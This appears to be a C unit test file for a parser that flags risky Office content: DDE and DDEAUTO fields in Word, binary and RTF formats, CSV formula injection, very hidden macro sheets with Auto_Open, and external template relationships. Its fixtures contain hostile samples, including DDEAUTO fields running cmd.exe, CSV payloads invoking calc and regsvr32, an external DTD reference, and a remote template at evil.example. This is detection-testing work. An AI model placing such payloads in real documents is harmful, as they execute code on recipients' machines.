/* Office fields, workbooks and relationships (parse/officexml): DDE as msodde sees it, sheets, caps. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <errno.h>

#include "parse/officexml.h"

#define S(x) (const uint8_t *)(x), sizeof(x) - 1
#define W "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\""

static void kinds(void **state)
{
	(void)state;
	assert_int_equal(ox_dde_kind(" DDEAUTO cmd", 12), OX_DDEAUTO);
	assert_int_equal(ox_dde_kind("\"dde\" x", 7), OX_DDE);
	assert_int_equal(ox_dde_kind("DDE", 3), OX_DDE);
	assert_int_equal(ox_dde_kind("DDEX", 4), OX_DDE_NONE);
	assert_int_equal(ox_dde_kind(" PAGE ", 6), OX_DDE_NONE);
	assert_int_equal(ox_dde_kind("", 0), OX_DDE_NONE);
}

static void word(void **state)
{
	struct ox_fields f;
	static const char split[] = "<w:document " W "><w:p>"
		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
		"<w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd.exe</w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>DDE</w:t></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
		"<w:fldSimple w:instr=\" PAGE \"/></w:p></w:document>";
	/* a field inside a field's instruction, and one never closed */
	static const char nested[] = "<w:document " W "><w:p>"
		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE x y</w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>"
		"</w:p></w:document>";

	(void)state;
	assert_int_equal(ox_word_fields(S(split), &f), 0);
	assert_int_equal(f.fields, 2);
	assert_int_equal(f.dde, 1);
	assert_int_equal(f.worst, OX_DDEAUTO);
	assert_string_equal(f.instr, "DDEAUTO c:\\cmd.exe");
	assert_int_equal(ox_word_fields(S(nested), &f), 0);
	assert_int_equal(f.fields, 3);
	assert_int_equal(f.dde, 1);
	assert_int_equal(f.worst, OX_DDE);
	/* not XML: an error, nothing invented */
	assert_int_equal(ox_word_fields(S("<w:document><w:p>"), &f), -EINVAL);
	assert_int_equal(f.dde, 0);
	/* entities are not expanded, no DTD is fetched */
	assert_int_equal(ox_word_fields(S("<!DOCTYPE d SYSTEM \"http://192.0.2.1/x.dtd\" [<!ENTITY e \"DDEAUTO x\">]>"
					  "<d><fldSimple instr=\"&e;\"/></d>"), &f), 0);
}

static void binaries(void **state)
{
	struct ox_fields f;
	static const uint8_t doc8[] = "text \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \x14result\x15 more \x13PAGE\x15";
	static const uint8_t doc16[] = { 'a', 0, 0x13, 0, 'D', 0, 'D', 0, 'E', 0, ' ', 0, 'x', 0, 0x15, 0 };
	static const uint8_t unterminated[] = "\x13 DDEAUTO cmd";

	(void)state;
	ox_doc_fields(doc8, sizeof(doc8) - 1, &f);
	assert_int_equal(f.fields, 2);
	assert_int_equal(f.worst, OX_DDEAUTO);
	ox_doc_fields(doc16, sizeof(doc16), &f);
	assert_int_equal(f.dde, 1);
	assert_string_equal(f.instr, "DDE x");
	ox_doc_fields(unterminated, sizeof(unterminated) - 1, &f);
	assert_int_equal(f.fields, 0);

	ox_rtf_fields(S("{\\rtf1{\\field{\\*\\fldinst {\\b DDE}{AUTO c:\\\\x.exe}}{\\fldrslt }}}"), &f);
	assert_int_equal(f.worst, OX_DDEAUTO);
	assert_string_equal(f.instr, "DDEAUTO c:\\x.exe");
	ox_rtf_fields(S("{\\rtf1{\\field{\\*\\fldinstx DDEAUTO}}"), &f);
	assert_int_equal(f.fields, 0);
	ox_rtf_fields(S("{\\rtf1 \\fldinst"), &f);
	assert_int_equal(f.dde, 0);

	ox_csv_dde(S("a,b\n=cmd|' /C calc'!A0,2\n\"+MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32'!_xlbgnm.A1\"\n"), &f);
	assert_int_equal(f.dde, 2);
	ox_csv_dde(S("=SUM(A1:A2),-3,@x,=A1|B1\n"), &f);
	assert_int_equal(f.dde, 0);
}

static size_t rec(uint8_t *p, unsigned type, const uint8_t *d, size_t n)
{
	size_t k = 0;

	if (type < 128) {
		p[k++] = (uint8_t)type;
	} else {
		p[k++] = (uint8_t)(0x80 | (type & 0x7F));
		p[k++] = (uint8_t)(type >> 7);
	}
	p[k++] = (uint8_t)n;	/* n < 128 here */
	memcpy(p + k, d, n);
	return k + n;
}

static size_t wide(uint8_t *p, const char *s)
{
	size_t i, n = strlen(s);

	p[0] = (uint8_t)n;
	p[1] = p[2] = p[3] = 0;
	for (i = 0; i < n; i++) {
		p[4 + 2 * i] = (uint8_t)s[i];
		p[5 + 2 * i] = 0;
	}
	return 4 + 2 * n;
}

static void workbooks(void **state)
{
	static struct ox_workbook wb;
	uint8_t buf[512], d[128];
	size_t n = 0, k;

	(void)state;
	assert_int_equal(ox_workbook_xml(S("<workbook xmlns:r=\"urn:r\"><sheets><sheet name=\"A\" r:id=\"rId1\"/>"
					   "<sheet name=\"M\" state=\"veryHidden\" r:id=\"rId2\"/></sheets><definedNames>"
					   "<definedName name=\"_xlnm.Auto_Open\">M!$A$1</definedName></definedNames>"
					   "</workbook>"), &wb), 0);
	assert_int_equal(wb.n_sheets, 2);
	assert_string_equal(wb.sheets[1].rid, "rId2");
	assert_int_equal(wb.sheets[1].state, OX_VERY_HIDDEN);
	assert_true(wb.auto_open);

	memset(d, 0, 8);
	d[0] = 1;	/* hidden */
	k = 8 + wide(d + 8, "rId7");
	k += wide(d + k, "Macro1");
	n += rec(buf + n, 131, d, 0);
	n += rec(buf + n, 156, d, k);
	memset(d, 0, 9);
	k = 9 + wide(d + 9, "Auto_Open_x");
	n += rec(buf + n, 39, d, k);
	assert_int_equal(ox_workbook_bin(buf, n, &wb), 0);
	assert_int_equal(wb.n_sheets, 1);
	assert_string_equal(wb.sheets[0].name, "Macro1");
	assert_string_equal(wb.sheets[0].rid, "rId7");
	assert_int_equal(wb.sheets[0].state, OX_HIDDEN);
	assert_true(wb.auto_open);
	/* a record that runs past the end, a string longer than its record */
	assert_int_equal(ox_workbook_bin(buf, n - 1, &wb), -EINVAL);
	buf[3 + 3 + 8] = 0x7F;	/* the strRelID length of the sheet */
	assert_int_equal(ox_workbook_bin(buf, n, &wb), -EINVAL);
}

static void rels(void **state)
{
	static struct ox_rels r;

	(void)state;
	assert_int_equal(ox_rels(S("<Relationships><Relationship Id=\"rId1\" Type=\"http://x/relationships/attachedTemplate\""
				   " Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/>"
				   "<Relationship Id=\"rId2\" Type=\"http://x/2006/relationships/xlMacrosheet\" "
				   "Target=\"macrosheets/sheet1.xml\"/></Relationships>"), &r), 0);
	assert_int_equal(r.n, 2);
	assert_int_equal(r.v[0].kind, OX_REL_TEMPLATE);
	assert_true(r.v[0].external);
	assert_string_equal(r.v[0].target, "https://evil.example/t.dotm");
	assert_int_equal(r.v[1].kind, OX_REL_MACROSHEET);
	assert_false(r.v[1].external);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(kinds), cmocka_unit_test(word), cmocka_unit_test(binaries),
		cmocka_unit_test(workbooks), cmocka_unit_test(rels),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
